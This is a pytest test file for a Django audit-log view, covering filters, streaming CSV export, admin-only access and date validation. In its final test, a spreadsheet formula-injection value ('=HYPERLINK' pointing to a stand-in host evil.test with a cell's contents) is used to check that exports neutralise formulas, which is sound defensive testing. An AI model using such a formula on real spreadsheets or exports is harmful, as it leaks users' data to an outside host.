"""The audit log: who did what as whom, filtered, and exported as CSV that streams."""

from __future__ import annotations

import csv
import io
from datetime import timedelta

import pytest
from django.urls import reverse
from django.utils import timezone

from accounts.roles import Role
from spaces.models import Operation, Space
from tests.support.signed_in_people import person

pytestmark = pytest.mark.django_db


@pytest.fixture
def carol():
    carol = person("carol@example.com", role=Role.IT_ADMIN)
    return carol


@pytest.fixture
def history(carol):
    alice, bob = person("alice@example.com"), person("bob@example.com")
    space = Space.objects.create(
        name="spaces/AliceLive001", owner_email="alice@example.com", meeting_code="liv-econ-fer"
    )
    rows = [
        Operation(
            kind="end_conference",
            actor=bob,
            identity_kind="delegation",
            identity_email="alice@example.com",
            space=space,
            reason="INC-4711",
            state="succeeded",
            result_message="Ended.",
        ),
        Operation(
            kind="patch",
            actor=alice,
            identity_kind="own_grant",
            identity_email="alice@example.com",
            space=space,
            state="queued",
            config_before={"accessType": "OPEN"},
        ),
        Operation(
            kind="refresh",
            actor=alice,
            identity_kind="own_grant",
            identity_email="alice@example.com",
            space=space,
            state="succeeded",
        ),  # a read: not part of the audit trail
    ]
    Operation.objects.bulk_create(rows)
    # Backdated while still unsettled: the database refuses any change once it has settled.
    Operation.objects.filter(kind="patch").update(created_at=timezone.now() - timedelta(days=10))
    Operation.objects.filter(kind="patch").update(state="failed", result_message="Refused.")
    return rows


def kinds(response) -> list[str]:
    return [operation.kind for operation in response.context["page"].object_list]


@pytest.mark.parametrize(
    ("query", "expected"),
    [
        ({}, ["end_conference", "role_grant", "patch"]),  # role_grant: carol made IT admin by the fixture
        ({"person": "bob@"}, ["end_conference"]),
        ({"space": "liv-econ-fer"}, ["end_conference", "patch"]),
        ({"action": "patch"}, ["patch"]),
        ({"outcome": "failed"}, ["patch"]),
        ({"since": (timezone.now() - timedelta(days=2)).date().isoformat()}, ["end_conference", "role_grant"]),
        ({"until": (timezone.now() - timedelta(days=5)).date().isoformat()}, ["patch"]),
    ],
)
def test_carol_filters_the_audit_log(client, carol, history, query, expected):
    client.force_login(carol)
    assert kinds(client.get(reverse("spaces:audit"), query)) == expected


def test_the_csv_export_streams_the_filtered_view(client, carol, history):
    client.force_login(carol)
    response = client.get(reverse("spaces:audit"), {"person": "bob@", "format": "csv"})
    assert response.streaming
    assert response["Content-Disposition"].startswith('attachment; filename="meetadmin-audit-')
    rows = list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode())))
    assert [(row["person"], row["identity"], row["identity_kind"], row["reason"], row["outcome"]) for row in rows] == [
        ("bob@example.com", "alice@example.com", "delegation", "INC-4711", "Done")
    ]


def test_only_it_admins_read_the_audit_log(client, history):
    client.force_login(person("dave@example.com"))
    assert client.get(reverse("spaces:audit")).status_code == 403
    assert client.get(reverse("spaces:audit"), {"format": "csv"}).status_code == 403


def test_a_backwards_date_range_is_explained_and_lists_nothing(client, carol, history):
    client.force_login(carol)
    response = client.get(reverse("spaces:audit"), {"since": "2026-02-01", "until": "2026-01-01"})
    page = response.content.decode()
    assert "“From” is after “Until”." in page.split('role="alert"', 1)[1]
    assert response.context["rows"] == []  # the error alone, not every entry as if no dates had been asked
    assert "No entries match." in page
    export = client.get(reverse("spaces:audit"), {"since": "2026-02-01", "until": "2026-01-01", "format": "csv"})
    assert b"".join(export.streaming_content).decode().count("\n") == 1  # the header only


def test_a_date_that_is_not_one_says_so(client, carol, history):
    client.force_login(carol)
    response = client.get(reverse("spaces:audit"), {"since": "yesterday"})
    assert "From: Enter a valid date." in response.content.decode().split('role="alert"', 1)[1]
    assert response.context["rows"] == []


def test_a_reason_that_looks_like_a_formula_is_exported_as_text(client, carol, history):
    """bob types a spreadsheet formula as his reason: carol's spreadsheet must show it, not run it."""
    bob = Operation.objects.get(kind="end_conference").actor
    Operation.objects.create(
        kind="end_conference",
        actor=bob,
        identity_kind="delegation",
        identity_email="alice@example.com",
        space_name="spaces/AliceLive001",
        target='=HYPERLINK("https://evil.test/?"&A1,"INC-1")',
        reason="@SUM(1+1)",
    )
    client.force_login(carol)
    response = client.get(reverse("spaces:audit"), {"person": "bob@", "format": "csv"})
    rows = list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode())))
    assert [(row["target"], row["reason"]) for row in rows] == [
        ('\'=HYPERLINK("https://evil.test/?"&A1,"INC-1")', "'@SUM(1+1)"),
        ("", "INC-4711"),
    ]
